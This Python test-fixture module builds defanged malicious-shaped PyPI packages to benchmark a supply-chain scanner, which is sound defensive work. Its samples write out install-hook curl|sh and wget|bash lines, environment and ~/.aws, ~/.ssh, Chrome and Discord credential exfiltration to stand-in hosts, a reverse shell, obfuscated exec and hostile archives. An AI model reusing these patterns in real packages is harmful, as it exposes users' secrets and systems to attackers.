"""Malicious-shaped distribution files, written here and harmless, for recall in bench/artifacts.py
and for reuse by tests and the stand-in PyPI.

Every payload decodes to `print(1)` or points at documentation hosts (203.0.113.0/24,
*.example.invalid); the files are only ever read, never installed or run. Project names are
made up (none is in ../shared/eval). Each sample names the check ids that fit its shape, most apt
first, and the least severity the file should reach: it is caught when any of those ids fires at
that severity or above (one strong finding often covers a shape two checks could describe: an
exec of a chr()-join is decode-exec as much as obfuscation). `expects=()` marks a control that
should stay below medium.

    from bench.samples import build_samples, sample
    data = sample("pth-decode-exec").data  # .ref, .metadata, .expects, .severity beside it
"""

from __future__ import annotations

import base64
import marshal
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from analysis.artifact import ArtifactRef
from analysis.model import ReleaseMetadata, Severity
from bench.sample_archives import Files, Link, Raw, build_sdist, build_wheel

# The check ids the samples expect, in one place (analysis/checks.py defines them). Several
# shapes share one check: curl | sh and fetch-then-run are both code.download-exec.
DECODE_EXEC = "code.decode-exec"  # exec/eval of base64/zlib/marshal/hex/rot13 output
INSTALL_HOOK = "code.cmdclass-override"  # setup.py cmdclass (info alone: context for the rest)
SHELL_DOWNLOAD = "code.download-exec"  # curl/wget piped to a shell
EXFIL = "code.exfiltration"  # environment, host or credentials sent over the network
SUSPICIOUS_HOST = "code.shady-url"  # Discord/Telegram/ngrok/pastebin/raw IP endpoints
CREDENTIALS = "code.credential-access"  # ~/.aws, ~/.ssh, browser Login Data, Discord tokens
PTH_EXEC = "code.startup-hook"  # executable line in a .pth file, sitecustomize.py
DOWNLOAD_EXEC = "code.download-exec"  # fetch, write, chmod, run
PROCESS_SPAWN = "code.process-spawn"  # a command that fetches or hides code (-EncodedCommand)
OBFUSCATION = "code.obfuscation"  # chr()-joins, getattr(__builtins__, ...), string-built names
PACKED = "code.obfuscation"  # PyArmor-like runtime stubs with an opaque blob
UNICODE = "code.invisible-unicode"  # bidi controls or invisible characters in source
UNPARSABLE = "code.decode-exec"  # Python 2 setup.py: ast fails, the line scan still sees it
NATIVE_IN_PURE = "archive.bundled-binary"  # ELF/PE/Mach-O inside a py3-none-any wheel
SHADOW_ENTRY = "code.command-shadow"  # console script named pip, git, python, ...
BUILD_BACKEND = "code.build-backend"  # backend-path build backend
DEPENDENCY_MISMATCH = "archive.metadata-mismatch"  # archive requires what the JSON does not list
ZIP_BOMB = "archive.bomb"
TRAVERSAL = "archive.path-traversal"
ABSOLUTE = "archive.absolute-path"
LINK = "archive.link"

HOST = "203.0.113.7"
PRINT_1_B64 = base64.b64encode(b"print(1)").decode()


@dataclass(frozen=True, slots=True)
class Sample:
    """One distribution file and what the checks should say about it."""

    key: str  # stable id for tests: "pth-decode-exec"
    project: str
    version: str
    filename: str
    data: bytes
    expects: tuple[str, ...]  # check ids any of which catches it, most apt first; () for a control
    severity: Severity  # the least the file's expected findings should reach
    metadata: ReleaseMetadata  # as the JSON API would serve it
    shape: str  # one line: what the sample imitates

    @property
    def ref(self) -> ArtifactRef:
        return ArtifactRef(self.project, self.version, self.filename)

    @property
    def control(self) -> bool:
        return not self.expects


def _setup(body: str, name: str) -> str:
    return f"{body}\nfrom setuptools import setup\n\nsetup(name={name!r}, version='0.1.0')\n"


Builder = Callable[[], tuple[str, bytes]]
_SPECS: list[tuple[str, str, str, Builder, tuple[str, ...], Severity, tuple[str, ...], str]] = []


def _add(
    key: str,
    project: str,
    shape: str,
    build: Builder,
    expects: tuple[str, ...],
    severity: Severity = Severity.HIGH,
    json_requires: tuple[str, ...] = (),
) -> None:
    _SPECS.append((key, project, shape, build, expects, severity, json_requires, "0.1.0"))


def _sd(project: str, files: Files, **kw: object) -> Builder:
    return lambda: build_sdist(project, "0.1.0", files, **kw)  # type: ignore[arg-type]


def _wh(project: str, files: Files, **kw: object) -> Builder:
    return lambda: build_wheel(project, "0.1.0", files, **kw)  # type: ignore[arg-type]


def _pkg(project: str) -> str:
    return project.replace("-", "_")


# ---------------------------------------------------------------- exfiltration from setup.py

_add(
    "setup-env-discord",
    "quillmetric-tools",
    "setup.py posts os.environ to a Discord webhook",
    _sd(
        "quillmetric-tools",
        {
            "setup.py": _setup(
                "import json, os, urllib.request\n"
                "payload = json.dumps({'content': str(dict(os.environ))}).encode()\n"
                "req = urllib.request.Request('https://discord.com/api/webhooks/1234567890/AbCdEf-example',"
                " data=payload, headers={'Content-Type': 'application/json'})\n"
                "urllib.request.urlopen(req)\n",
                "quillmetric-tools",
            )
        },
    ),
    (EXFIL, SUSPICIOUS_HOST),
)

_add(
    "cmdclass-curl-sh",
    "brambleforge",
    "cmdclass install runs curl | sh",
    _sd(
        "brambleforge",
        {
            "setup.py": "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
            "class PostInstall(install):\n"
            "    def run(self):\n"
            "        install.run(self)\n"
            f"        os.system('curl -fsSL http://{HOST}/init.sh | sh')\n\n"
            "setup(name='brambleforge', version='0.1.0', cmdclass={'install': PostInstall})\n"
        },
    ),
    (INSTALL_HOOK, SHELL_DOWNLOAD),
    Severity.HIGH,
)

_add(
    "cmdclass-wget-bash-develop",
    "tindalux",
    "cmdclass develop runs wget -O- | bash via subprocess",
    _sd(
        "tindalux",
        {
            "setup.py": "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.develop import develop\n\n"
            "class Dev(develop):\n"
            "    def run(self):\n"
            "        subprocess.call('wget -qO- http://updates.example.invalid/a | bash', shell=True)\n"
            "        develop.run(self)\n\n"
            "setup(name='tindalux', version='0.1.0', cmdclass={'develop': Dev})\n"
        },
    ),
    (INSTALL_HOOK, SHELL_DOWNLOAD),
)

# ---------------------------------------------------------------- decode -> exec

_add(
    "setup-b64-exec",
    "marrowlight",
    "setup.py exec(base64.b64decode(...))",
    _sd(
        "marrowlight",
        {
            "setup.py": _setup(
                f"import base64\nexec(base64.b64decode('{PRINT_1_B64}'))\n", "marrowlight"
            )
        },
    ),
    (DECODE_EXEC,),
)

_ZLIB = base64.b64encode(zlib.compress(b"print(1)")).decode()
_add(
    "init-zlib-exec",
    "corvane-utils",
    "__init__.py exec(zlib.decompress(b64decode(...))) in a wheel",
    _wh(
        "corvane-utils",
        {
            "corvane_utils/__init__.py": f"import base64, zlib\n__version__ = '0.1.0'\nexec(zlib.decompress(base64.b64decode('{_ZLIB}')))\n"
        },
    ),
    (DECODE_EXEC,),
)

_MARSHAL = base64.b64encode(marshal.dumps(compile("print(1)", "<m>", "exec"))).decode()
_add(
    "init-marshal-exec",
    "pellucid-cache",
    "__init__.py exec(marshal.loads(b64decode(...)))",
    _wh(
        "pellucid-cache",
        {
            "pellucid_cache/__init__.py": f"import marshal as _m, base64 as _b\nexec(_m.loads(_b.b64decode('{_MARSHAL}')))\n"
        },
    ),
    (DECODE_EXEC,),
)

_add(
    "aliased-builtins-exec",
    "ostrava-kit",
    "aliased imports: B.exec(b.b64decode(...))",
    _sd(
        "ostrava-kit",
        {
            "setup.py": _setup(
                f"import base64 as b\nimport builtins as B\nB.exec(b.b64decode('{PRINT_1_B64}').decode())\n",
                "ostrava-kit",
            )
        },
    ),
    (DECODE_EXEC,),
)

_add(
    "hex-eval-compile",
    "lumenpike",
    "eval(compile(bytes.fromhex(...)))",
    _wh(
        "lumenpike",
        {
            "lumenpike/__init__.py": f"eval(compile(bytes.fromhex('{b'print(1)'.hex()}').decode(), '<x>', 'exec'))\n"
        },
    ),
    (DECODE_EXEC,),
)

_add(
    "rot13-exec",
    "saffrondale",
    "exec(codecs.decode(..., 'rot13')) in setup.py",
    _sd(
        "saffrondale",
        {
            "setup.py": _setup(
                "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n", "saffrondale"
            )
        },
    ),
    (DECODE_EXEC,),
)

_add(
    "payload-in-function",
    "gantry-hollow",
    "decode->exec inside a function called at import",
    _wh(
        "gantry-hollow",
        {
            "gantry_hollow/__init__.py": "import base64\n\n\ndef _bootstrap():\n"
            f"    code = base64.b64decode('{PRINT_1_B64}')\n"
            "    exec(code)\n\n\n_bootstrap()\n"
        },
    ),
    (DECODE_EXEC,),
)

# ---------------------------------------------------------------- .pth files

_add(
    "pth-decode-exec",
    "fernwick-hooks",
    ".pth import line that decodes and execs",
    _wh(
        "fernwick-hooks",
        {
            "fernwick_hooks/__init__.py": "",
            "fernwick_hooks-init.pth": f"import base64;exec(base64.b64decode('{PRINT_1_B64}'))\n",
        },
    ),
    (PTH_EXEC, DECODE_EXEC),
    Severity.HIGH,
)

_add(
    "pth-os-system",
    "dovecrest",
    ".pth import line running a shell command",
    _wh(
        "dovecrest",
        {
            "dovecrest/__init__.py": "",
            "dovecrest.pth": f"import os; os.system('curl -s http://{HOST}/p | sh')\n",
        },
    ),
    (PTH_EXEC, SHELL_DOWNLOAD),
    Severity.HIGH,
)

# ---------------------------------------------------------------- download, write, run

_add(
    "download-chmod-exec",
    "harrowgate",
    "urlretrieve -> chmod 755 -> Popen in setup.py",
    _sd(
        "harrowgate",
        {
            "setup.py": _setup(
                "import os, subprocess, tempfile, urllib.request\n"
                "path = os.path.join(tempfile.gettempdir(), 'hg-agent')\n"
                f"urllib.request.urlretrieve('http://{HOST}/agent', path)\n"
                "os.chmod(path, 0o755)\n"
                "subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
                "harrowgate",
            )
        },
    ),
    (DOWNLOAD_EXEC,),
)

_add(
    "requests-write-startfile",
    "vellichor-net",
    "requests.get -> write .exe -> os.startfile",
    _wh(
        "vellichor-net",
        {
            "vellichor_net/__init__.py": "import os\nimport requests\n\n"
            "r = requests.get('https://cdn.example.invalid/update.exe')\n"
            "with open(os.path.join(os.getenv('TEMP', '.'), 'update.exe'), 'wb') as f:\n"
            "    f.write(r.content)\n"
            "os.startfile(os.path.join(os.getenv('TEMP', '.'), 'update.exe'))\n"
        },
    ),
    (DOWNLOAD_EXEC,),
)

_PS = base64.b64encode("Write-Output 1".encode("utf-16-le")).decode()
_add(
    "powershell-encoded",
    "quarrystone",
    "PowerShell -EncodedCommand from setup.py",
    _sd(
        "quarrystone",
        {
            "setup.py": _setup(
                "import subprocess, sys\nif sys.platform == 'win32':\n"
                f"    subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', '{_PS}'])\n",
                "quarrystone",
            )
        },
    ),
    (PROCESS_SPAWN, DECODE_EXEC),
)

_add(
    "fetch-pastebin-exec",
    "noctilume",
    "exec(urlopen('https://pastebin.com/raw/...').read())",
    _sd(
        "noctilume",
        {
            "setup.py": _setup(
                "from urllib.request import urlopen\nexec(urlopen('https://pastebin.com/raw/xY12AbCd').read())\n",
                "noctilume",
            )
        },
    ),
    (DOWNLOAD_EXEC, SUSPICIOUS_HOST),
    Severity.HIGH,
)

# ---------------------------------------------------------------- credentials and hosts

_add(
    "aws-credentials-post",
    "cirrusfold",
    "reads ~/.aws/credentials and POSTs it (requests)",
    _wh(
        "cirrusfold",
        {
            "cirrusfold/__init__.py": "import os\nimport requests\n\n"
            "with open(os.path.expanduser('~/.aws/credentials')) as fh:\n"
            "    requests.post('https://collect.example.invalid/c', data={'k': fh.read()})\n"
        },
    ),
    (CREDENTIALS, EXFIL),
)

_add(
    "ssh-key-urllib",
    "mossgrain",
    "reads ~/.ssh/id_rsa in a function called from setup.py",
    _sd(
        "mossgrain",
        {
            "setup.py": _setup(
                "import os, urllib.request\n\n\ndef _sync():\n"
                "    key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'), 'rb').read()\n"
                f"    urllib.request.urlopen('http://{HOST}:8080/k', data=key)\n\n\n_sync()\n",
                "mossgrain",
            )
        },
    ),
    (CREDENTIALS, EXFIL),
)

_add(
    "browser-login-telegram",
    "aurelwick",
    "Chrome 'Login Data' copied and sent to a Telegram bot",
    _wh(
        "aurelwick",
        {
            "aurelwick/__init__.py": "import os, shutil, sqlite3, requests\n\n"
            "db = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
            "shutil.copy2(db, 'ld.tmp')\n"
            "rows = sqlite3.connect('ld.tmp').execute('SELECT origin_url, username_value FROM logins').fetchall()\n"
            "requests.post('https://api.telegram.org/bot000000:EXAMPLE/sendDocument',"
            " data={'chat_id': '1'}, files={'document': str(rows)})\n"
        },
    ),
    (CREDENTIALS, EXFIL, SUSPICIOUS_HOST),
)

_add(
    "telegram-hostname",
    "birchmantle",
    "Telegram bot sendMessage with hostname and user at import",
    _wh(
        "birchmantle",
        {
            "birchmantle/__init__.py": "import getpass, socket, urllib.parse, urllib.request\n"
            "TOKEN = '000000:EXAMPLE'\n"
            "msg = urllib.parse.quote(f'{socket.gethostname()} {getpass.getuser()}')\n"
            "urllib.request.urlopen(f'https://api.telegram.org/bot{TOKEN}/sendMessage?chat_id=1&text={msg}')\n"
        },
    ),
    (EXFIL, SUSPICIOUS_HOST),
)

_add(
    "ngrok-environ",
    "kestrelpath",
    "os.environ POSTed to an ngrok tunnel from setup.py",
    _sd(
        "kestrelpath",
        {
            "setup.py": _setup(
                "import os, requests\nrequests.post('https://a1b2-203-0-113-5.ngrok-free.app/e', json=dict(os.environ))\n",
                "kestrelpath",
            )
        },
    ),
    (EXFIL, SUSPICIOUS_HOST),
)

_add(
    "raw-ip-reverse-shell",
    "emberquay",
    "socket to a raw IP with the shell on its file descriptor",
    _sd(
        "emberquay",
        {
            "setup.py": _setup(
                "import os, pty, socket\n\n\ndef _connect():\n"
                f"    s = socket.socket(); s.connect(('{HOST}', 4444))\n"
                "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
                "    pty.spawn('/bin/sh')\n\n\nif os.fork() == 0:\n    _connect()\n",
                "emberquay",
            )
        },
    ),
    (SUSPICIOUS_HOST, PROCESS_SPAWN),
    Severity.HIGH,
)

_add(
    "discord-token-grab",
    "velvetroost",
    "reads Discord leveldb tokens and posts to a webhook",
    _wh(
        "velvetroost",
        {
            "velvetroost/__init__.py": "import os, re, glob, json, urllib.request\n\n\ndef grab():\n"
            "    root = os.path.join(os.getenv('APPDATA', ''), 'discord', 'Local Storage', 'leveldb')\n"
            "    found = []\n"
            "    for name in glob.glob(os.path.join(root, '*.ldb')):\n"
            "        found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(name, errors='ignore').read())\n"
            "    req = urllib.request.Request('https://discordapp.com/api/webhooks/1/x', json.dumps({'content': found}).encode())\n"
            "    urllib.request.urlopen(req)\n\n\ngrab()\n"
        },
    ),
    (CREDENTIALS, EXFIL, SUSPICIOUS_HOST),
)

# ---------------------------------------------------------------- obfuscation

_CHRS = ",".join(str(ord(c)) for c in "print(1)")
_add(
    "chr-join-exec",
    "wyvernlatch",
    "exec(''.join(chr(c) for c in [...]))",
    _sd(
        "wyvernlatch",
        {"setup.py": _setup(f"exec(''.join(chr(c) for c in [{_CHRS}]))\n", "wyvernlatch")},
    ),
    (OBFUSCATION, DECODE_EXEC),
)

_add(
    "getattr-builtins",
    "tamsinvale",
    "getattr(__builtins__, 'ex' + 'ec') on a decoded string",
    _wh(
        "tamsinvale",
        {
            "tamsinvale/__init__.py": "import base64\n_f = getattr(__builtins__, 'ex' + 'ec', None) or __builtins__['ex' + 'ec']\n"
            f"_f(base64.b64decode('{PRINT_1_B64}'))\n"
        },
    ),
    (OBFUSCATION, DECODE_EXEC),
)

_add(
    "dunder-import-system",
    "orrisfield",
    "__import__('o'+'s').system(...) in setup.py",
    _sd(
        "orrisfield",
        {
            "setup.py": _setup(
                f"__import__('o' + 's').system('curl http://{HOST}/s | sh')\n", "orrisfield"
            )
        },
    ),
    (OBFUSCATION, SHELL_DOWNLOAD),
)

_add(
    "importlib-builtins-dict",
    "caskwright",
    "importlib.import_module('builtins').__dict__['eval']",
    _wh(
        "caskwright",
        {
            "caskwright/__init__.py": "import importlib\n"
            "importlib.import_module('built' + 'ins').__dict__['ev' + 'al']('print(1)')\n"
        },
    ),
    (OBFUSCATION, DECODE_EXEC),
    Severity.MEDIUM,
)

_add(
    "pyarmor-stub",
    "quenchbar",
    "PyArmor-like runtime stub with an opaque blob",
    _wh(
        "quenchbar",
        {
            "quenchbar/__init__.py": "from .pytransform import pyarmor_runtime\npyarmor_runtime()\n"
            "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00"
            + "\\x01" * 400
            + "')\n",
            "quenchbar/pytransform/__init__.py": "def pyarmor_runtime(): pass\n",
            "quenchbar/pytransform/_pytransform.so": b"\x7fELF\x02\x01\x01" + b"\x00" * 120,
        },
    ),
    (PACKED, NATIVE_IN_PURE),
    Severity.MEDIUM,
)

_add(
    "bidi-trojan-source",
    "lindqvist-auth",
    "bidi override characters inside a string comparison",
    _wh(
        "lindqvist-auth",
        {
            "lindqvist_auth/__init__.py": "def is_admin(level):\n"
            "    return level != 'user\u202e \u2066# admin\u2069 \u2066'\n"
        },
    ),
    (UNICODE,),
    Severity.MEDIUM,
)

_add(
    "invisible-identifier",
    "haldenmoor",
    "Hangul filler (U+3164) as an identifier hiding a call",
    _sd(
        "haldenmoor",
        {
            "setup.py": _setup(
                f"import os\n\u3164 = os.system\n\u3164('curl -s http://{HOST}/h | sh')\n",
                "haldenmoor",
            )
        },
    ),
    (UNICODE, SHELL_DOWNLOAD),
)

_add(
    "py2-syntax-exec",
    "oldmarsh",
    "Python 2 setup.py (ast fails) with exec of a decoded blob",
    _sd(
        "oldmarsh",
        {
            "setup.py": "import base64\nprint 'installing oldmarsh'\n"
            f"exec base64.b64decode('{PRINT_1_B64}')\n"
            "from setuptools import setup\nsetup(name='oldmarsh', version='0.1.0')\n"
        },
    ),
    (UNPARSABLE,),
    Severity.MEDIUM,
)

# ---------------------------------------------------------------- wheels: binaries, entry points

_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
_PE = (
    b"MZ"
    + b"\x90" * 58
    + (0x80).to_bytes(4, "little")
    + b"\x00" * 64
    + b"PE\x00\x00"
    + b"\x00" * 200
)
_add(
    "pure-wheel-elf",
    "stellwater",
    "py3-none-any wheel bundling an ELF nothing runs (a capability: low)",
    _wh("stellwater", {"stellwater/__init__.py": "", "stellwater/bin/helper": _ELF}),
    (NATIVE_IN_PURE,),
    Severity.LOW,
)

_add(
    "pure-wheel-pe-run",
    "grimsby-sync",
    "py3-none-any wheel bundling a PE that __init__ runs",
    _wh(
        "grimsby-sync",
        {
            "grimsby_sync/__init__.py": "import os, subprocess\n"
            "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'svc.exe')])\n",
            "grimsby_sync/svc.exe": _PE,
        },
    ),
    # medium, like an encrypted module run on import: real wrappers start their program so
    (PROCESS_SPAWN, NATIVE_IN_PURE),
    Severity.MEDIUM,
)

_add(
    "sdist-pe-run-at-install",
    "grimsby-setup",
    "sdist whose setup.py starts a PE it ships",
    _sd(
        "grimsby-setup",
        {
            "setup.py": "import os, subprocess\nfrom setuptools import setup\n"
            "subprocess.Popen([os.path.join('grimsby_setup', 'svc.exe')])\nsetup()\n",
            "grimsby_setup/__init__.py": "",
            "grimsby_setup/svc.exe": _PE,
        },
    ),
    (PROCESS_SPAWN, NATIVE_IN_PURE),
)

_add(
    "entry-point-pip",
    "pipwrangle",
    "console script named pip",
    _wh(
        "pipwrangle",
        {"pipwrangle/__init__.py": "def main():\n    print(1)\n"},
        entry_points="[console_scripts]\npip = pipwrangle:main\n",
    ),
    (SHADOW_ENTRY,),
    Severity.MEDIUM,
)

_add(
    "entry-point-git",
    "gitfennel",
    "console script named git",
    _wh(
        "gitfennel",
        {"gitfennel/__init__.py": "def main():\n    print(1)\n"},
        entry_points="[console_scripts]\ngit = gitfennel.cli:main\ngitfennel = gitfennel.cli:main\n",
    ),
    (SHADOW_ENTRY,),
    Severity.MEDIUM,
)

_add(
    "sitecustomize-wheel",
    "corbelhaus",
    "wheel ships a top-level sitecustomize.py that sends",
    _wh(
        "corbelhaus",
        {
            "corbelhaus/__init__.py": "",
            "sitecustomize.py": "import os, urllib.request\n"
            "urllib.request.urlopen('https://hooks.example.invalid/s', data=repr(dict(os.environ)).encode())\n",
        },
    ),
    (PTH_EXEC, EXFIL),
)

# ---------------------------------------------------------------- build backends and metadata

_add(
    "in-tree-backend-send",
    "poltergrain",
    "backend-path build backend that phones home",
    _sd(
        "poltergrain",
        {
            "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
            "_build/backend.py": "import platform, urllib.request\n"
            "from setuptools import build_meta as _orig\n"
            f"urllib.request.urlopen('http://{HOST}/b', data=platform.node().encode())\n"
            "build_wheel = _orig.build_wheel\nbuild_sdist = _orig.build_sdist\n",
            "poltergrain/__init__.py": "",
        },
    ),
    (BUILD_BACKEND, EXFIL),
)

_add(
    "metadata-extra-dependency",
    "sorrel-bindings",
    "METADATA requires a project the JSON omits",
    _wh(
        "sorrel-bindings",
        {"sorrel_bindings/__init__.py": "import sorrel_native_helper\n"},
        requires=("requests>=2", "sorrel-native-helper"),
    ),
    (DEPENDENCY_MISMATCH,),
    Severity.MEDIUM,
    json_requires=("requests>=2",),
)

# ---------------------------------------------------------------- hostile archives

_add(
    "zip-bomb-wheel",
    "vastmere",
    "wheel member of 80 MB of zeros (ratio ~1000:1), over the 64 MB floor",
    _wh(
        "vastmere", {"vastmere/__init__.py": "", "vastmere/data.bin": b"\x00" * (80 * 1024 * 1024)}
    ),
    (ZIP_BOMB,),
    Severity.MEDIUM,
)

_add(
    "tar-path-traversal",
    "ridgeback-io",
    "sdist member ../../../../tmp/...",
    _sd(
        "ridgeback-io",
        {"setup.py": _setup("", "ridgeback-io")},
        raw=(Raw("../../../../tmp/ridgeback.pth", b"import os\n"),),
    ),
    (TRAVERSAL,),
)

_add(
    "tar-absolute-path",
    "ashgrove-cfg",
    "sdist member with an absolute path",
    _sd(
        "ashgrove-cfg",
        {"setup.py": _setup("", "ashgrove-cfg")},
        raw=(Raw("/etc/cron.d/ashgrove", b"* * * * * root true\n"),),
    ),
    (ABSOLUTE,),
)

_add(
    "zip-path-traversal",
    "morrowbend",
    "wheel member ../../morrowbend.pth",
    _wh(
        "morrowbend",
        {"morrowbend/__init__.py": ""},
        raw=(Raw("../../morrowbend.pth", b"import os\n"),),
    ),
    (TRAVERSAL,),
)

_add(
    "tar-symlink",
    "cindervault",
    "sdist symlink to ~/.ssh/id_rsa",
    _sd(
        "cindervault", {"setup.py": _setup("", "cindervault"), "key.txt": Link("/root/.ssh/id_rsa")}
    ),
    (LINK,),
    Severity.MEDIUM,
)

_add(
    "zip-symlink",
    "tollbridge",
    "wheel entry with symlink mode bits to /etc/passwd",
    _wh("tollbridge", {"tollbridge/__init__.py": "", "tollbridge/passwd": Link("/etc/passwd")}),
    (LINK,),
    Severity.MEDIUM,
)

# ---------------------------------------------------------------- wheel-only payload and controls

_add(
    "wheel-only-payload",
    "glimmerhythe",
    "payload in the wheel's __init__ (its sdist is clean)",
    _wh(
        "glimmerhythe",
        {
            "glimmerhythe/__init__.py": f"import base64\n__all__ = []\nexec(base64.b64decode('{PRINT_1_B64}'))\n"
        },
    ),
    (DECODE_EXEC,),
)

_add(
    "control-wheel-only-sdist",
    "glimmerhythe",
    "control: the clean sdist of the wheel-only payload",
    _sd(
        "glimmerhythe",
        {"setup.py": _setup("", "glimmerhythe"), "glimmerhythe/__init__.py": "__all__ = []\n"},
    ),
    (),
    Severity.MEDIUM,
)

_add(
    "control-build-protoc",
    "thistlecode",
    "control: cmdclass build_py running protoc from setup.py",
    _sd(
        "thistlecode",
        {
            "setup.py": "import subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n\n"
            "class BuildProto(build_py):\n"
            "    def run(self):\n"
            "        subprocess.check_call([sys.executable, '-m', 'grpc_tools.protoc', '-I.', '--python_out=.', 'api.proto'])\n"
            "        super().run()\n\n"
            "setup(name='thistlecode', version='0.1.0', cmdclass={'build_py': BuildProto})\n"
        },
    ),
    (),
    Severity.MEDIUM,
)

_add(
    "control-b64-data",
    "pennyroyal-icons",
    "control: base64 icon data decoded, never executed",
    _wh(
        "pennyroyal-icons",
        {
            "pennyroyal_icons/__init__.py": "import base64\n\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')\n"
        },
    ),
    (),
    Severity.MEDIUM,
)

_add(
    "control-api-client",
    "fallowmere-client",
    "control: an API client that posts only when called",
    _wh(
        "fallowmere-client",
        {
            "fallowmere_client/__init__.py": "import requests\n\n\nclass Client:\n"
            "    def __init__(self, token, base='https://api.example.invalid'):\n"
            "        self.token, self.base = token, base\n\n"
            "    def send(self, data):\n"
            "        return requests.post(self.base + '/v1/items', json=data, headers={'Authorization': self.token})\n"
        },
    ),
    (),
    Severity.MEDIUM,
)


def _build(
    spec: tuple[str, str, str, Builder, tuple[str, ...], Severity, tuple[str, ...], str],
) -> Sample:
    key, project, shape, build, expects, severity, json_requires, version = spec
    filename, data = build()
    metadata = ReleaseMetadata(
        name=project, version=version, summary="Utilities.", requires_dist=json_requires
    )
    return Sample(key, project, version, filename, data, expects, severity, metadata, shape)


@cache
def build_samples() -> tuple[Sample, ...]:
    """Every sample, built once per process (about 0.5 s, most of it the zip bomb)."""
    return tuple(_build(spec) for spec in _SPECS)


def sample(key: str) -> Sample:
    for s in build_samples():
        if s.key == key:
            return s
    raise KeyError(key)


SAMPLE_KEYS: tuple[str, ...] = tuple(spec[0] for spec in _SPECS)
